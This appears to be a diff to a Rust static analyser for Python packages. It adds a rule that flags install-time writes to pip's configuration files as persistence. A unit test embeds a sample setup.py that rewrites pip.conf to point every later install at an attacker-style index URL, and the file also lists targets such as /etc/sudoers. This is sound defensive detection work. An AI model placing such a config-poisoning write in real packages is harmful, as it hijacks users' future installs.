@@ -52,6 +52,21 @@ const SYSTEM_HIJACK: &[(&str, &str)] = &[
     ("/etc/sudoers", "the sudo rules"),
 ];
 
+/// pip's configuration files: the index named there is where every later `pip install` of
+/// the user's fetches code from. Tools that manage indexes (devpi's client) write them when
+/// asked; a package installing or loading has no reason to.
+const PIP_CONFIG: &[&str] = &[
+    "pip/pip.conf",
+    "pip/pip.ini",
+    ".pip/pip.conf",
+    "/etc/pip.conf",
+];
+
+fn pip_config_target(text: &str) -> bool {
+    let normalized = text.to_ascii_lowercase().replace('\\', "/");
+    PIP_CONFIG.iter().any(|needle| normalized.ends_with(needle))
+}
+
 fn system_hijack_target(text: &str) -> Option<&'static str> {
     let normalized = text.to_ascii_lowercase();
     SYSTEM_HIJACK
@@ -486,6 +501,26 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let writes = !matches!(qualname, "open" | "io.open") || writing_mode(checker, call).is_some();
     for arg in args.iter().take(2) {
         if let Some(text) = writes.then(|| super::partial_text(checker, arg)).flatten()
+            && pip_config_target(&text)
+        {
+            checker.report(
+                &RULE,
+                call.range(),
+                format!(
+                    "{qualname} writes `{}`, pip's configuration, which names the index every later install fetches from {}",
+                    crate::text::shorten(&text, 80),
+                    context.phrase()
+                ),
+                match context {
+                    ExecContext::Install | ExecContext::Import => 0.75,
+                    ExecContext::Runtime => 0.15,
+                    ExecContext::TestOrDocs => 0.05,
+                },
+                vec!["persistence", "pip-config"],
+            );
+            return;
+        }
+        if let Some(text) = writes.then(|| super::partial_text(checker, arg)).flatten()
             && let Some(what) = system_hijack_target(&text)
         {
             checker.report(
@@ -528,6 +563,16 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 #[cfg(test)]
 mod shortcut_tests {
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn pips_configuration_written_while_installing_redirects_every_install() {
+        let poison = "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]\\nindex-url = http://203.0.113.8/simple')\n";
+        assert!(max_severity("p/setup.py", poison, "WH150") >= 0.75);
+        let asked = "import os\ndef use(url):\n    with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n        fh.write(url)\n";
+        assert!(max_severity("p/pkg/cli.py", asked, "WH150") <= 0.15);
+        let reader = "import os\nprint(open(os.path.expanduser('~/.pip/pip.conf')).read())\n";
+        assert_eq!(max_severity("p/setup.py", reader, "WH150"), 0.0);
+    }
 
     #[test]
     fn writing_the_preload_list_or_sudo_rules_hijacks_the_system() {
